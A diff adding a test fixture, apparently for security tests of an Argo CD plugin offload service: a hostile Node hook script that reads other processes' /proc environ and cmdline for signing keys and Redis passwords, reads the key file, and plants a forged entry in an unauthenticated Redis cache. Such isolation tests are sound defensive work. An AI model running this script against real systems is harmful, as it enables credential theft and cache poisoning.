@@ -1,0 +1,44 @@
+/**
+ * Repository code that a plugin runs (a helmfile hook, a kustomize exec plugin, a cdk8s app):
+ * it tries every way we know to get at the service's credentials and at Redis, and reports
+ * what it got in the manifests it prints, so the test reads the attack's outcome from the
+ * answer itself. Runs with the plugin's uid, env and cwd, as `node hook.mjs`.
+ *
+ * Targets come from the request env, as an attacker would know them: ARGOCD_ENV_KEYFILE (the
+ * signing key file's well-known path), ARGOCD_ENV_REDIS_PORT (Redis is on the network).
+ */
+export const ATTACK_HOOK = String.raw`
+import fs from 'node:fs';
+import net from 'node:net';
+
+const got = [];
+// 1. Our own env.
+for (const name of Object.keys(process.env)) if (/^(CMP_OFFLOAD_|REDIS)/i.test(name)) got.push('env:' + name);
+// 2. Every process we can see: its environ and its command line.
+for (const pid of fs.readdirSync('/proc').filter(d => /^\d+$/.test(d))) {
+  for (const f of ['environ', 'cmdline']) {
+    try {
+      const text = fs.readFileSync('/proc/' + pid + '/' + f, 'latin1');
+      if (/CMP_OFFLOAD_(SIGNING_KEY|REDIS_URL)|redis:\/\/[^@\s]*:[^@\s]+@/.test(text)) got.push(f + ':' + pid);
+    } catch {}
+  }
+}
+// 3. The key file.
+try { fs.readFileSync(process.env.ARGOCD_ENV_KEYFILE); got.push('keyfile'); } catch {}
+// 4. Redis without the password: PING, then try to plant a cache entry for the victim.
+const port = Number(process.env.ARGOCD_ENV_REDIS_PORT);
+const victim = '{cmp-offload}:out:hostile:victim:' + 'f'.repeat(64);
+const replies = await new Promise(resolve => {
+  let out = '';
+  const s = net.connect(port, '127.0.0.1', () => {
+    s.write('*1\r\n$4\r\nPING\r\n');
+    s.write('*3\r\n$3\r\nSET\r\n$' + victim.length + '\r\n' + victim + '\r\n$6\r\nforged\r\n');
+  });
+  s.on('data', d => { out += d; if (out.split('\r\n').length > 2) s.end(); });
+  s.on('error', () => resolve(out));
+  s.on('close', () => resolve(out));
+  setTimeout(() => { s.destroy(); resolve(out); }, 3000);
+});
+if (/^\+(PONG|OK)/m.test(replies)) got.push('redis');
+process.stdout.write(JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: process.env.ARGOCD_APP_NAME }, data: { got: got.join(' ') || 'nothing', redis: replies.split('\r\n')[0] } }) + '\n');
+`;
